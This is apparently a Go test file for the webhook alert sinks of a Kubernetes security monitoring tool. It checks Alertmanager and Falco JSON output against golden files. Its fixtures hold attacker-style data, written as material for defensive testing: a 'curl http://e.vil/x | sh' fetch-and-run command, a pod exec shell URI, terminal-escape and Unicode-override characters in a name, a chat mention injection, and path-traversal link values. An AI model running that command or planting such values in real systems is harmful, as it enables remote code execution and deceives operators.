package webhook

import (
	"bytes"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/parallax-sec/parallax/event"
	"github.com/parallax-sec/parallax/sinks/sinktest"
)

var update = flag.Bool("update", false, "write the files in testdata anew")

// golden compares got with a file.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	var pretty bytes.Buffer
	if err := json.Indent(&pretty, got, "", "  "); err != nil {
		t.Fatalf("%v in %s", err, got)
	}
	pretty.WriteByte('\n')
	path := "testdata/" + name
	if *update {
		if err := os.WriteFile(path, pretty.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(string(want), pretty.String()); diff != "" {
		t.Errorf("%s:\n%s", name, diff)
	}
}

var testNow = time.Date(2026, 11, 20, 12, 0, 0, 0, time.UTC)

// auditAlert is about a request with texts of an attacker.
func auditAlert() *event.Alert {
	a := sinktest.Alerts(1)[0]
	a.Rule.Threat = event.NewThreat([]string{"T1059.004", "T1609"})
	a.Message = "Exec into <!channel> by alice"
	a.Reason = "alice ran curl http://e.vil/x | sh in dev/web"
	d := a.Details
	d.Name = "web\u202e\x1b[2J"
	d.Groups = []string{"dev", "system:authenticated"}
	d.Audit.RequestURI, d.Audit.Code = "/api/v1/namespaces/dev/pods/web/exec?command=sh", 101
	return a
}

func kernelAlert() *event.Alert {
	a := sinktest.Alerts(1)[0]
	a.Severity = event.SeverityCritical
	a.Details = &event.Details{
		Source: event.SourceKernel, TimeNs: a.TimeNs, EventID: a.ID, Action: "mount", Namespace: "dev", Resource: "pods", Name: "web", PodUID: "uid-1",
		Container: "app", Image: "reg.io:5000/team/app:v2", Command: []string{"/bin/mount", "-t", "proc", "p", "/mnt"},
		Kernel: &event.Kernel{
			Node: "node-1", Result: "SUCCESS", ContainerID: strings.Repeat("a1", 32), Runtime: "containerd",
			Process: event.Process{
				PID: 4711, VPID: 7, Name: "mount", Executable: "/bin/mount", WorkingDirectory: "/", TTYMajor: 136, TTYMinor: 1,
				User: event.Account{ID: "0", Name: "root"}, Group: event.Account{ID: "0"},
			},
			Parent: event.Process{PID: 4700, Name: "sh", Executable: "/bin/sh", Args: []string{"sh", "-i"}},
			Mount:  event.Mount{Called: true, Source: "p", Target: "/mnt", FSType: "proc"},
		},
	}
	return a
}

// falcoAlertOf is an alert of a Falco that is passed on.
func falcoAlertOf() *event.Alert {
	a := sinktest.Alerts(1)[0]
	a.Rule = &event.Rule{Name: "Terminal shell in container", Tags: []string{"shell", "container"}}
	a.Reason = "A shell was spawned (user=root)"
	a.Details = &event.Details{
		Source: event.SourceFalco, TimeNs: a.TimeNs, EventID: a.ID, Action: "execve",
		Falco: &event.Falco{
			Sender: "node/n1", Rule: a.Rule.Name, Priority: "Informational", Source: "syscall", Hostname: "n1",
			Fields: []string{"evt.time=1795168800123456789", "parallax.id=mine", "proc.name=sh", "proc.pid=12", "user.uid=no number"},
		},
	}
	return a
}

func TestAlertmanager(t *testing.T) {
	retracted := auditAlert()
	retracted.Revision, retracted.Status = 1, event.StatusRetracted
	f := &alertmanager{firing: time.Hour}
	plain := &event.Alert{Plain: true, Rule: &event.Rule{}, Details: &event.Details{}}
	golden(t, "alertmanager.json", f.body(nil, []*event.Alert{auditAlert(), kernelAlert(), plain, retracted}, testNow))
	if got := f.body(nil, []*event.Alert{plain}, testNow); len(got) != 0 {
		t.Errorf("%s", got)
	}
}

// An alert of the future (a source whose clock is ahead) ends no earlier than it begins.
func TestAlertmanagerAhead(t *testing.T) {
	a := auditAlert()
	a.TimeNs = testNow.Add(24 * time.Hour).UnixNano()
	got := (&alertmanager{firing: time.Hour}).one(a, testNow)
	if got.EndsAt.Before(got.StartsAt) {
		t.Errorf("%v to %v", got.StartsAt, got.EndsAt)
	}
}

// A rule that an agent sent makes no link of its own.
func TestRuleURL(t *testing.T) {
	f := func(want string, ids ...string) {
		t.Helper()
		if got := ruleURL(&event.Rule{Threat: event.Threat{TechniqueIDs: ids}}); got != want {
			t.Errorf("%q: %q, want %q", ids, got, want)
		}
	}
	f("")
	f("", "T1/../../evil", "https://e.vil", "T12345", "T1059.004\n")
	f("https://attack.mitre.org/techniques/T1609/", "x", "T1609")
	f("https://attack.mitre.org/techniques/T1059/004/", "T1059.004")
}

func TestFalco(t *testing.T) {
	f := &falco{hostname: "hub-0"}
	for name, a := range map[string]*event.Alert{
		"falco_audit.json": auditAlert(), "falco_kernel.json": kernelAlert(), "falco_passed_on.json": falcoAlertOf(),
	} {
		golden(t, name, f.body(nil, []*event.Alert{a}, testNow))
	}
	later := auditAlert()
	later.Revision = 1
	if got := f.body(nil, []*event.Alert{later}, testNow); len(got) != 0 {
		t.Errorf("a revision: %s", got)
	}
}

// The keys and their types are those of what the real Falco wrote.
func TestFalcoHasFalcosKeys(t *testing.T) {
	const real = `{"hostname": "n", "output": "2026-11-20T23:49:03.152055000+0000: Warning K8s Operation (user=alice)",
		"output_fields": {"evt.time.iso8601": 1795218543152055000, "ka.response.code": "200", "ka.target.name": null},
		"priority": "Warning", "rule": "Disallowed K8s User", "source": "k8s_audit", "tags": ["k8s"], "time": "2026-11-20T23:49:03.152055000Z"}`
	var want, got map[string]any
	body := (&falco{hostname: "hub-0"}).body(nil, []*event.Alert{auditAlert()}, testNow)
	for text, to := range map[string]*map[string]any{real: &want, string(body): &got} {
		if err := json.Unmarshal([]byte(text), to); err != nil {
			t.Fatal(err)
		}
	}
	for key, value := range want {
		if fmt.Sprintf("%T", got[key]) != fmt.Sprintf("%T", value) {
			t.Errorf("%s is %T, Falco's %T", key, got[key], value)
		}
		if key == "time" && len(got[key].(string)) != len(value.(string)) {
			t.Errorf("time %v, Falco's %v", got[key], value)
		}
	}
	if len(got) != len(want) {
		t.Errorf("%d keys, Falco has %d", len(got), len(want))
	}
}
